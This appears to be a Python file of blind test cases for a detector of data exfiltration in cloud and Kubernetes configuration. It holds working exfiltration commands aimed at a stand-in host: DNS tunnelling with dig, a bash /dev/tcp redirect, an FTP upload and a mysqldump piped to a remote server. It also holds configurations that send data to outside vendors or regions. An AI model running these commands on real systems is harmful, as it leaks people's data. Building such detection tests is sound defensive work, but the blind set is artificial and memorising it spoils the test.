"""Attacks that take data out by channels that are no address, by classes and by members (2026-11-28, third blind set).

Properties by pulumi-aws 7.51.1 and pulumi-azure-native 3.29.0; programs and custom resources by their documentation.
"""

from ..blind import GROUP, TAGS, THEM, aws, az, crd, k8s, meta, pod, workload
from ..harness import Given
from . import Attack

RES = ("FJ-RES-", "FJ-IDN-", "FJ-ESC-", "FJ-EXP-")
R = "me-central-1"
RG = {"resourceGroupName": "rg-platform"}
HERE = {**RG, "location": "uaenorth", "tags": TAGS}
OURS = f"{GROUP}/providers/Microsoft"
CLIENT = "11111111-2222-3333-4444-555555555555"
TAKEN = "a stranger has the data"
ABROAD = "the vendor's cloud outside the country gets what users write"
KEYS = [{"secretRef": {"name": "keys"}}]
PROFILES = ("bank:\n  target: prod\n  outputs:\n    prod:\n      type: bigquery\n      method: oauth\n"
            "      project: someones-project\n      dataset: orders\n      threads: 8\n")  # fmt: skip
FTP = "import ftplib, os; f = ftplib.FTP('collector-app.io'); f.login(); f.storbinary('STOR r', open('/data/r', 'rb'))"


def _program(*args: str, **env: str) -> tuple[Given, ...]:
    listed = [{"name": key, "value": value} for key, value in env.items()]
    return (workload("apps/v1:Deployment", {
        "envFrom": KEYS, "env": listed, **({"args": list(args)} if args else {})}, replicas=1),)  # fmt: skip


def _nightly(command: str, *env: object) -> tuple[Given, ...]:
    return (k8s("batch/v1:CronJob", {"metadata": meta("nightly"), "spec": {
        "schedule": "0 2 * * *", "concurrencyPolicy": "Forbid", "jobTemplate": {"spec": {
            "activeDeadlineSeconds": 3600, "ttlSecondsAfterFinished": 600, "template": {
                "metadata": {"labels": TAGS}, "spec": pod({
                    "command": ["/bin/sh", "-c"], "args": [command], "env": list(env)},
                    restartPolicy="Never")}}}}}),)  # fmt: skip


def _python(text: str) -> tuple[Given, ...]:
    return (workload("apps/v1:Deployment", {"command": ["python", "-c", text]}, replicas=1),)


def _config(name: str, key: str, text: str) -> Given:
    return k8s("core/v1:ConfigMap", {"metadata": meta(name), "data": {key: text}}, name)


ATTACKS = (
    Attack("a job asks for names that are made of its rows", RES, _nightly(
        'xxd -p -c 30 /data/rows.csv | while read -r r; do dig +short "$r.x.collector-app.io"; done'),
        "critical", f"{TAKEN}: the server of the zone reads each question (MITRE ATT&CK T1048.003)"),
    Attack("a script writes rows into a device of its shell", RES, (workload("apps/v1:Deployment", {
        "command": ["/bin/bash", "-c", "cat /data/rows.csv > /dev/tcp/collector-app.io/443"]}, replicas=1),),
        "critical", f"{TAKEN} (GNU Bash, 'Redirections', /dev/tcp)"),
    Attack("a program stores a file on a server of FTP", RES, _python(FTP),
        "critical", f"{TAKEN} (Python, ftplib)"),
    Attack("a job pipes a dump into a database of a stranger", RES, _nightly(
        "mysqldump --single-transaction -h orders.team-a.svc bank | mysql -h db.collector-app.io -u in bank"),
        "critical", f"{TAKEN} (MySQL, 'mysqldump')"),
    Attack("a job publishes rows as a gist", RES, _nightly("gh gist create --public /data/rows.csv"),
        "critical", "everybody reads them (GitHub CLI, 'gh gist create')"),
    Attack("a job pushes datasets by the remote of their repository", RES, _nightly(
        "cd /data && dvc add rows && dvc push --remote partner"),
        "critical", f"{TAKEN}: the address is in .dvc/config of the volume (DVC, 'push')"),
    Attack("a program sends rows to the queue of a stranger by its address", RES, _program(
        "export.py", "--batch=10", SINK_QUEUE_URL=f"https://sqs.{R}.amazonaws.com/{THEM}/inbox"),
        "critical", f"{TAKEN}, in the country by the host, in another account by the path (Amazon SQS, 'Queue URL')"),
    Attack("a container syncs a folder to every device that knows its number", RES, _program(
        "serve", "--no-browser", "--home=/data/.syncthing",
        STDEVICES="MFZWI3D-BONSGYC-YLTMRWG-C43ENR5-QXGZDMM-FZWI3DP-BONSGYY-LTMRWAD"),
        "critical", f"{TAKEN} through relays that everybody runs (Syncthing, 'Relaying')"),
    Attack("a local server asks models of its vendor by a suffix", RES, _program(
        "run", "gpt-oss:120b-cloud", OLLAMA_HOST="0.0.0.0:11434"),
        "critical", f"models with -cloud run at ollama.com: {ABROAD} (Ollama, 'Cloud')"),
    Attack("a portal of chats searches the web with its users' questions", RES, _program(
        ENABLE_WEB_SEARCH="true", WEB_SEARCH_ENGINE="duckduckgo", OPENAI_API_BASE_URL="http://vllm.models.svc:8000/v1"),
        "critical", "each question goes to a search engine abroad, without a key (Open WebUI, 'Web search')"),
    Attack("users of a portal bring keys of vendors themselves", RES, _program(
        ENDPOINTS="openAI,anthropic,google", OPENAI_API_KEY="user_provided", ANTHROPIC_API_KEY="user_provided",
        GOOGLE_KEY="user_provided"),
        "critical", f"{ABROAD} (LibreChat, '.env', user_provided)"),
    Attack("documents are embedded by a vendor whose key is the only sign", RES, (workload("apps/v1:Deployment", {
        "args": ["index.py", "--source=/data/contracts"], "env": [{"name": "VOYAGE_API_KEY", "valueFrom": {
            "secretKeyRef": {"name": "voyage", "key": "key"}}}]}, replicas=1),),
        "critical", "the texts of all contracts go to api.voyageai.com (Voyage AI, 'Quickstart')"),
    Attack("an agent speaks with customers by a vendor's voice", RES, (workload("apps/v1:Deployment", {
        "args": ["agent.py", "start", "--stt=deepgram/nova-3:ar", "--tts=elevenlabs/eleven_turbo_v2_5"]},
        replicas=1),),
        "critical", "each call is heard at the vendors', by the prefix of a model (LiveKit Agents, 'Models')"),
    Attack("a connector of Kafka writes to another cloud by the name of its class", RES, (
        crd("kafka.strimzi.io/v1:KafkaConnector", {
            "class": "com.wepay.kafka.connect.bigquery.BigQuerySinkConnector", "tasksMax": 1, "config": {
                "topics": "orders", "project": "someones-project", "defaultDataset": "rows",
                "keyfile": "/opt/keys/key.json", "autoCreateTables": "true"}}),),
        "critical", f"{TAKEN}, in Google's cloud (BigQuery Sink Connector, configuration)"),
    Attack("models of dbt are built in a warehouse of another cloud", RES, (_config("dbt", "profiles.yml", PROFILES),),
        "critical", f"{TAKEN}, in Google's cloud by the word bigquery (dbt, 'BigQuery setup')"),
    Attack("errors of the cluster are explained by a vendor's model", RES, (crd("core.k8sgpt.ai/v1alpha1:K8sGPT", {
        "ai": {"enabled": True, "backend": "openai", "model": "gpt-4o-mini", "anonymized": False,
               "secret": {"name": "k8sgpt", "key": "key"}}, "noCache": False, "version": "v0.4.8"}),),
        "critical", "objects, names and logs go to api.openai.com (K8sGPT operator)"),
    Attack("snapshots of disks are kept in another region by their class", RES, (
        k8s("snapshot.storage.k8s.io/v1:VolumeSnapshotClass", {
            "metadata": {"name": "far", "labels": TAGS}, "driver": "disk.csi.azure.com", "deletionPolicy": "Retain",
            "parameters": {"incremental": "true", "location": "swedencentral"}}),),
        "critical", "each snapshot of the class is copied abroad (Azure Disk CSI driver, VolumeSnapshotClass, "
        "location)"),
    Attack("every block of a pool is mirrored to a cluster that stands in a secret", RES, (
        crd("ceph.rook.io/v1:CephBlockPool", {
            "replicated": {"size": 3}, "mirroring": {"enabled": True, "mode": "image", "peers": {
                "secretNames": ["pool-peer-token"]}}}),),
        "critical", f"{TAKEN}: monitors and key of the peer are in the token (Rook, 'RBD Mirroring')"),
    Attack("a node of a stranger is a member of the set of replicas", RES, (
        crd("psmdb.percona.com/v1:PerconaServerMongoDB", {
            "crVersion": "1.20.0", "image": "percona/percona-server-mongodb:8.0.8-3", "replsets": [{
                "name": "rs0", "size": 3, "externalNodes": [
                    {"host": "node.collector-app.io", "port": 27017, "votes": 0, "priority": 0}],
                "volumeSpec": {"persistentVolumeClaim": {"resources": {"requests": {"storage": "20Gi"}}}}}]}),),
        "critical", f"{TAKEN}: a member gets every document (Percona Operator for MongoDB, externalNodes)"),
    Attack("pods of a namespace run in clusters of others", RES, (
        crd("offloading.liqo.io/v1beta1:NamespaceOffloading", {
            "namespaceMappingStrategy": "DefaultName", "podOffloadingStrategy": "Remote", "clusterSelector": {
                "nodeSelectorTerms": [{"matchExpressions": [{"key": "region", "operator": "In",
                                                             "values": ["emea"]}]}]}}, "offloading"),),
        "critical", "programs, their secrets and their volumes move to the peer (Liqo, 'Namespace offloading')"),
    Attack("keys of a module of the bank are copied to another region", RES, (az("keyvault:ManagedHsm", {
        **HERE, "name": "hsm-bank", "sku": {"family": "B", "name": "Standard_B1"}, "properties": {
            "tenantId": "00000000-1111-2222-3333-444444444444", "initialAdminObjectIds": [CLIENT],
            "enablePurgeProtection": True, "enableSoftDelete": True, "softDeleteRetentionInDays": 90,
            "publicNetworkAccess": "Disabled", "networkAcls": {"bypass": "None", "defaultAction": "Deny"},
            "regions": [{"name": "uaenorth", "isPrimary": True}, {"name": "uksouth", "isPrimary": False}]}}),),
        "critical", "every key is in the second region too (Azure Managed HSM, 'Multi-region replication')"),
    Attack("logs of the organisation are collected in another account abroad", RES, (
        aws("observabilityadmin/CentralizationRuleForOrganization", {"ruleName": "logs", "tags": TAGS, "rule": {
            "source": {"regions": [R], "scope": "OrganizationId = 'o-a1b2c3d4e5'", "sourceLogsConfiguration": {
                "encryptedLogGroupStrategy": "ALLOW", "logGroupSelectionCriteria": "*"}},
            "destination": {"account": THEM, "region": "eu-central-1", "destinationLogsConfiguration": {
                "logsEncryptionConfiguration": {"encryptionStrategy": "AWS_OWNED"}}}}}),),
        "critical", "every log group is copied (Amazon CloudWatch, 'Cross-account cross-Region log centralization')"),
    Attack("a job of SQL writes its results into a server of a stranger", RES, (az("sql:JobStep", {
        **RG, "serverName": "sql-bank", "jobAgentName": "agent", "jobName": "report", "stepName": "copy",
        "targetGroup": f"{OURS}.Sql/servers/sql-bank/jobAgents/agent/targetGroups/all",
        "action": {"type": "TSql", "source": "Inline", "value": "SELECT * FROM dbo.Customers"}, "output": {
            "type": "SqlDatabase", "serverName": "collector.database.windows.net", "databaseName": "in",
            "tableName": "Customers"}}),),
        "critical", f"{TAKEN} (Azure SQL, 'Elastic jobs', output)"),
    Attack("a managed instance copies its database to a server outside Azure", RES, (
        az("sql:DistributedAvailabilityGroup", {
            **RG, "managedInstanceName": "mi-bank", "distributedAvailabilityGroupName": "dag",
            "databases": [{"databaseName": "orders"}], "instanceAvailabilityGroupName": "ag-mi",
            "partnerAvailabilityGroupName": "ag-box", "partnerEndpoint": "TCP://203.0.113.77:5022",
            "instanceLinkRole": "Primary", "seedingMode": "Automatic", "replicationMode": "Async"}),),
        "critical", f"{TAKEN} (Azure SQL Managed Instance, 'Managed Instance link')"),
    Attack("texts are checked by a provider of safety outside Azure", RES, (
        az("cognitiveservices:RaiExternalSafetyProvider", {
            "safetyProviderName": "checker", "properties": {
                "providerName": "checker", "mode": "Blocking", "url": "https://api.checker-app.io/v1/check",
                "keyVaultUri": "https://kv-bank.vault.azure.net/", "secretName": "checker"}}),),
        "critical", "prompts and answers are posted to the provider (Azure AI, RAI external safety provider)"),
)  # fmt: skip
